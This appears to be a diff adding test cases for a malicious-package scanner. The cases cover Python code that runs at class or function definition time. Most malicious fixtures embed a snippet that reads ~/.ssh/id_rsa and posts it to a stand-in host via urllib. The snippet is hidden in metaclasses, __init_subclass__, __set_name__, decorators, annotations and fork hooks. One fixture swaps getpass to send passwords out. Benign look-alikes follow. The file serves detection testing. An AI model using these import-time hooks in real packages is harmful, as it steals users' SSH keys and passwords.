@@ -1,0 +1,83 @@
+"""Code that runs when a class or function is *defined*, at import, without any call:
+metaclasses, `__init_subclass__`, `__set_name__`, class decorators, annotations evaluated
+at definition, fork hooks and module objects swapped into `sys.modules`."""
+
+from __future__ import annotations
+
+from techniques import Case
+
+STEAL = ("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+         "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n")
+
+
+def _body(text: str, indent: int) -> str:
+    return "".join(" " * indent + line + "\n" for line in text.splitlines())
+
+
+def _init(name: str, body: str) -> dict[str, str | bytes]:
+    return {f"{name}/__init__.py": "import os, sys, urllib.request\n\n" + body}
+
+
+CASES = [
+    Case("metaclass __new__ steals when a class is defined", "metasteal", _init(
+        "metasteal", "class _Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
+                     + _body(STEAL, 8) + "        return super().__new__(mcs, name, bases, ns)"
+                     "\n\n\nclass Model(metaclass=_Meta):\n    pass\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("__init_subclass__ of a base in another module", "subclasshook", {
+        "subclasshook/__init__.py": "from .models import User  # noqa\n",
+        "subclasshook/base.py": ("import os, urllib.request\n\n\nclass Base:\n"
+                                 "    def __init_subclass__(cls, **kw):\n" + _body(STEAL, 8)),
+        "subclasshook/models.py": "from .base import Base\n\n\nclass User(Base):\n    pass\n",
+    }, "malicious", ("PV303",), kind="wheel"),
+    Case("descriptor __set_name__ runs in a class body", "setname", _init(
+        "setname", "class Field:\n    def __set_name__(self, owner, name):\n" + _body(STEAL, 8)
+                   + "\n\nclass Model:\n    x = Field()\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("class decorator steals", "classdeco", _init(
+        "classdeco", "def register(cls):\n" + _body(STEAL, 4) + "    return cls\n\n\n"
+                     "@register\nclass Model:\n    pass\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("function annotation evaluated at definition", "annotsteal", _init(
+        "annotsteal", "def _k():\n" + _body(STEAL, 4) + "    return int\n\n\n"
+                      "def f(x: _k()) -> None:\n    pass\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("os.register_at_fork hook in every child process", "atfork", _init(
+        "atfork", "def _child():\n" + _body(STEAL, 4)
+                  + "\n\nos.register_at_fork(after_in_child=_child)\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("sys.modules['getpass'] replaced by an object that sends passwords", "gpswap", _init(
+        "gpswap", "class _GP:\n    def getpass(self, prompt='Password: '):\n"
+                  "        import getpass as g\n        pw = g.getpass(prompt)\n"
+                  "        urllib.request.urlopen('https://k.x.invalid/p', data=pw.encode())\n"
+                  "        return pw\n\n\nsys.modules['getpass'] = _GP()\n"),
+        "malicious", ("PV324",), kind="wheel"),
+    # benign look-alikes
+    Case("ORM metaclass collecting fields, plugin registry via __init_subclass__", "tinyorm", _init(
+        "tinyorm",
+        "REGISTRY = {}\n\n\nclass Field:\n    def __set_name__(self, owner, name):\n"
+        "        self.name = name\n\n\nclass _Meta(type):\n"
+        "    def __new__(mcs, name, bases, ns):\n"
+        "        ns['_fields'] = [k for k, v in ns.items() if isinstance(v, Field)]\n"
+        "        return super().__new__(mcs, name, bases, ns)\n\n\n"
+        "class Model(metaclass=_Meta):\n"
+        "    def __init_subclass__(cls, **kw):\n        REGISTRY[cls.__name__] = cls\n\n\n"
+        "class User(Model):\n    name = Field()\n"),
+        "benign", kind="wheel"),
+    Case("annotations naming runtime types, fork hook reseeding a RNG", "typedrng", _init(
+        "typedrng",
+        "import random\nfrom typing import Optional\n\n\n"
+        "def pick(seq: list, default: Optional[int] = None) -> Optional[int]:\n"
+        "    return random.choice(seq) if seq else default\n\n\n"
+        "os.register_at_fork(after_in_child=random.seed)\n"),
+        "benign", kind="wheel"),
+    Case("class decorator registering a command; sys.modules alias for a renamed module",
+         "cmdreg", {
+        "cmdreg/__init__.py": (
+            "import sys\nfrom . import _compat\n\nCOMMANDS = {}\n\n\n"
+            "def command(cls):\n    COMMANDS[cls.__name__.lower()] = cls\n    return cls\n\n\n"
+            "@command\nclass Sync:\n    def run(self):\n        return 'ok'\n\n\n"
+            "sys.modules['cmdreg.compat'] = _compat\n"),
+        "cmdreg/_compat.py": "import json\n\nloads = json.loads\n",
+    }, "benign", kind="wheel"),
+]
